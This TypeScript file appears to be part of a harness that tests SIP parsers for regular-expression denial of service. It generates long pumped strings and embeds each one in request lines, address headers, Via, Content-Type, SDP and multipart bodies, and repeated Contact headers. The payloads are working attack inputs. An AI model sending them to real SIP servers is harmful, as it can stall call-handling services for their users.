// SIP messages that carry a text which a backtracking expression takes longest over, in each place where a peer can
// write one: in a start line, in each part of an address, in other headers, and in bodies.

import type { Attack } from './verdicts.ts';

export interface AttackMessage {
  readonly name: string;
  readonly bytes: Buffer;
}

/** Characters: what fits into one header value as it is handed on, and what only fits into a message. */
const LENGTHS = [1_900, 30_000];

/** What recheck does not know: these stop at any line end of Unicode, which SIP's parsers do not. */
const handMade: readonly Attack[] = [
  { pumps: [{ prefix: '', pump: ' ' }], suffix: 'a\u2028x' },
  { pumps: [{ prefix: 'a', pump: ' ' }], suffix: 'a\u0085x' },
  { pumps: [{ prefix: '', pump: ';boundary=' }], suffix: '\u2028' },
  { pumps: [{ prefix: '', pump: ' ' }], suffix: '<' },
  { pumps: [{ prefix: '', pump: 'a ' }], suffix: '"' },
  { pumps: [{ prefix: '', pump: '"' }], suffix: '' },
  { pumps: [{ prefix: '', pump: '\\' }], suffix: '' },
  { pumps: [{ prefix: '', pump: ',' }], suffix: ';' },
  { pumps: [{ prefix: '', pump: ', ' }], suffix: ';' },
  { pumps: [{ prefix: '', pump: ';a' }], suffix: '"' },
];

const address = ['%', '% <sip:a@b>;tag=1', '"%" <sip:a@b>;tag=1', '<sip:%@b>;tag=1', '<sip:a@%>;tag=1'];
const parameters = ['<sip:a@b;%>;tag=1', '<sip:a@b?%>;tag=1', '<sip:a@b>;tag=1;%', '<sip:a@b>%;tag=1'];
const values = ['<sip:a@b>;tag=1;x=%', '<sip:a@b>;tag=1;x="%"', '<sip:a@b>;tag=%'];
const addresses = [...address, ...parameters, ...values];

/** Templates of header values; `%` is the attack. */
const HEADERS: Readonly<Record<string, readonly string[]>> = {
  From: addresses,
  To: addresses,
  Contact: addresses,
  'Record-Route': ['%', '<sip:a@b>%'],
  Via: ['SIP/2.0/UDP b%', 'SIP/2.0/UDP b;branch=z9hG4bK%', 'SIP/2.0/UDP b;branch=z9hG4bK1;x="%"'],
  CSeq: ['1%INVITE', '1 INVITE%'],
  'Call-ID': ['%'],
  'Content-Type': ['%', 'multipart/%', 'multipart/mixed;boundary=%', 'multipart/mixed%;boundary=x'],
  Reason: ['SIP;cause=200;text="%"', '%'],
  'X-Anything': ['%'],
  Subject: ['%'],
};

const BODIES = [
  '--x\r\nContent-Type: %\r\n\r\nbody\r\n--x--',
  'v=0\r\no=- 1 1 IN IP4 1.2.3.4\r\ns=%\r\nt=0 0\r\nm=audio 4000 RTP/AVP 0\r\na=fmtp:0 %\r\n',
];

interface Parts {
  readonly start: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
}

const usual: Readonly<Record<string, string>> = {
  Via: 'SIP/2.0/UDP b;branch=z9hG4bK1',
  From: '<sip:a@b>;tag=1',
  To: '<sip:a@b>;tag=1',
  'Call-ID': 'c',
  CSeq: '1 INVITE',
  'Max-Forwards': '70',
  Contact: '<sip:a@b>',
};
const request = 'INVITE sip:a@b SIP/2.0';
const response = 'SIP/2.0 180 Ringing';

/** Every attack in every place, in both lengths, as it is and with its control characters made blanks. */
export function* attackMessages(known: readonly Attack[]): Generator<AttackMessage> {
  for (const length of LENGTHS) {
    const texts = [...known, ...handMade].map(attack => pumped(attack, length));
    for (const text of new Set(texts.flatMap(raw => [raw, raw.replace(/[\0-\x1f\x7f]/g, ' ')]))) {
      const shown = JSON.stringify(`${text.slice(0, 20)}...${text.slice(-10)}`);
      for (const [place, parts] of places(text)) {
        yield { name: `${length} of ${shown} in ${place}`, bytes: bytesOf(parts) };
      }
    }
  }
}

function* places(text: string): Generator<[string, Parts]> {
  const at = (template: string) => template.replaceAll('%', () => text);
  yield ['the reason phrase', { start: at('SIP/2.0 180 %'), headers: usual, body: '' }];
  for (const uri of ['sip:%@b', 'sip:a@%', 'sip:a@b;%', 'sip:a@b?%']) {
    yield [`the Request-URI ${uri}`, { start: at(`INVITE ${uri} SIP/2.0`), headers: usual, body: '' }];
  }
  for (const [name, templates] of Object.entries(HEADERS)) {
    for (const template of templates) {
      const headers = { ...usual, [name]: at(template) };
      yield [`${name}: ${template}`, { start: response, headers, body: 'x\r\n\r\n' }];
    }
  }
  for (const body of BODIES) {
    const type = body.startsWith('v=0') ? 'application/sdp' : 'multipart/mixed;boundary=x';
    yield ['a body', { start: request, headers: { ...usual, 'Content-Type': type }, body: at(body) }];
  }
  const everywhere = Object.fromEntries(
    Object.entries(HEADERS).map(([name, templates]) => [name, at(templates[templates.length > 1 ? 1 : 0]!)]),
  );
  const valid = { ...everywhere, Via: usual.Via!, CSeq: usual.CSeq!, 'Call-ID': usual['Call-ID']! };
  yield ['all headers together', { start: response, headers: { ...usual, ...valid }, body: 'x\r\n\r\n' }];
  // drachtio-srf joins the values of one name.
  const part = text.slice(0, 500);
  const many = Array.from({ length: 60 }, () => `<sip:a@b>;x="${part}"`).join('\r\nContact: ');
  yield ['sixty Contact headers', { start: response, headers: { ...usual, Contact: many }, body: '' }];
}

function pumped({ pumps, suffix }: Attack, length: number): string {
  const fixed = suffix.length + pumps.reduce((sum, { prefix }) => sum + prefix.length, 0);
  const round = pumps.reduce((sum, { pump }) => sum + pump.length, 0);
  const times = Math.max(1, Math.floor((length - fixed) / round));
  return pumps.map(({ prefix, pump }) => prefix + pump.repeat(times)).join('') + suffix;
}

function bytesOf({ start, headers, body }: Parts): Buffer {
  const fields = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  const content = Buffer.from(body);
  return Buffer.concat([
    Buffer.from(`${start}\r\n${fields.join('')}Content-Length: ${content.length}\r\n\r\n`),
    content,
  ]);
}
